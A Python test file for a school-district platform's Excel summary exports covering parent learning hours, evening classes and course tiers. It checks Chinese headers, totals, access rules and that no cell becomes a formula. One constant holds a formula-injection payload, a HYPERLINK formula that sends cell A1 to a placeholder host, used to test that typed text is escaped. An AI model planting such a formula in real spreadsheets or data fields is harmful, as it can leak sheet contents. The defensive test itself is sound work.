"""Every summary a school or district reads has an .xlsx twin with the same figures (汇总表): Chinese headers,
one row per school / classroom / tier, a totals row, typed text never run as a formula."""

from __future__ import annotations

import io
from datetime import timedelta
from typing import Any
from urllib.parse import unquote

import openpyxl
from sqlalchemy import update

from handlers.deps import Deps
from models.accounts.tables import School
from server.app import API
from tests.api.test_statistics import complete_foundation
from tests.builders import make_course, make_evening_class, make_world
from tests.client import Api, Response

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE_NAME = '=HYPERLINK("http://x/?"&A1,"甲小学")'


def _sheet(response: Response) -> list[list[Any]]:
    assert response.status == 200, response.body
    assert response.headers["Content-Type"] == XLSX
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.body)).active
    assert sheet is not None
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula anywhere
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


async def test_learning_summaries_as_excel(api: Api, deps: Deps) -> None:
    w = await make_world(deps)
    await complete_foundation(deps, w.actors["parent_a"].user_id)
    admin = w.token("district_admin")
    query = "?school_year=2025-2026"
    school_json = (
        await api.get(f"{API}/schools/{w.school_a.id}/learning/summary{query}", token=admin)
    ).json()
    rows = _sheet(await api.get(f"{API}/schools/{w.school_a.id}/learning/summary.xlsx{query}", token=admin))
    assert rows[0][0].startswith("甲小学 2025-2026 学年家长学时完成情况（要求：基础课 8 课时")
    assert rows[1] == ["年级", "班级", "家长人数", "完成学时的家长", "完成率"]
    [room] = school_json["by_classroom"]
    assert rows[2] == [
        room["grade"],
        room["classroom_name"],
        room["parents"],
        room["complete"],
        room["share"],
    ]
    total = school_json["total"]
    assert (
        rows[-1]
        == ["合计", None, total["parents"], total["complete"], total["share"]]
        == ["合计", None, 1, 1, 1]
    )

    district_json = (
        await api.get(f"{API}/districts/{w.district.id}/learning/summary{query}", token=admin)
    ).json()
    response = await api.get(f"{API}/districts/{w.district.id}/learning/summary.xlsx{query}", token=admin)
    assert w.district.name in unquote(response.headers["Content-Disposition"])
    rows = _sheet(response)
    assert [r[:4] for r in rows[2:-1]] == [
        [s["school_name"], s["parents"], s["complete"], s["share"]] for s in district_json["by_school"]
    ]
    assert rows[-1][1:] == [district_json["total"]["parents"], district_json["total"]["complete"], 0.5]


async def test_evening_class_summaries_as_excel_with_typed_text_made_safe(api: Api, deps: Deps) -> None:
    w = await make_world(deps)
    async with deps.sessions() as s, s.begin():
        await s.execute(update(School).where(School.id == w.school_a.id).values(name=HOSTILE_NAME))
        course = await make_course(s, district=w.district, tier="foundation")
        now = deps.clock()
        await make_evening_class(s, w.school_a, course, starts_at=now - timedelta(days=1))
        await make_evening_class(s, w.school_a, course, starts_at=now + timedelta(days=1))
    from models.evening_classes.rules import term_of

    term = term_of(now)
    admin = w.token("district_admin")
    school_url = f"{API}/schools/{w.school_a.id}/terms/{term}/evening-classes/summary"
    school_json = (await api.get(school_url, token=admin)).json()
    rows = _sheet(await api.get(f"{school_url}.xlsx", token=admin))
    assert rows[1][:5] == ["学校", "每学期要求", "已举办", "已安排", "是否达标"]
    assert rows[2][:5] == ["'" + HOSTILE_NAME, 5, school_json["held"], school_json["scheduled"], "未达标"]
    assert (school_json["held"], school_json["scheduled"]) == (0, 2)  # held: ended with attendance taken

    district_url = f"{API}/districts/{w.district.id}/terms/{term}/evening-classes/summary"
    district_json = (await api.get(district_url, token=w.token("evaluator"))).json()
    rows = _sheet(await api.get(f"{district_url}.xlsx", token=w.token("evaluator")))
    body = rows[2:-1]
    assert [(r[0].lstrip("'"), r[2], r[3]) for r in body] == [
        (i["school_name"], i["held"], i["scheduled"]) for i in district_json["items"]
    ]
    assert rows[-1][0] == f"合计（{len(body)} 所，未达标 {district_json['schools_below_requirement']} 所）"
    assert rows[-1][3] == sum(i["scheduled"] for i in district_json["items"]) == 2


async def test_catalogue_summary_as_excel(api: Api, deps: Deps) -> None:
    w = await make_world(deps)
    admin = w.token("district_admin")
    url = f"{API}/districts/{w.district.id}/catalogue/summary"
    tiers = (await api.get(url, token=admin)).json()["tiers"]
    rows = _sheet(await api.get(f"{url}.xlsx", token=admin))
    assert rows[1] == ["层级", "课程数", "区级目标", "完成比例"]
    labels = {"foundation": "基础课", "general": "通识课", "custom": "定制课", "online": "网络课"}
    assert rows[2:] == [[labels[t["tier"]], t["courses"], t["target"], t["share_of_target"]] for t in tiers]


async def test_an_excel_twin_keeps_its_summarys_policy(api: Api, deps: Deps) -> None:
    w = await make_world(deps)
    other = await api.get(
        f"{API}/districts/{w.other_district.id}/catalogue/summary.xlsx", token=w.token("district_admin")
    )
    assert other.status == 404
    parent = await api.get(
        f"{API}/districts/{w.district.id}/catalogue/summary.xlsx", token=w.token("parent_a")
    )
    assert parent.status == 403 and parent.headers["Content-Type"].startswith("application/problem+json")
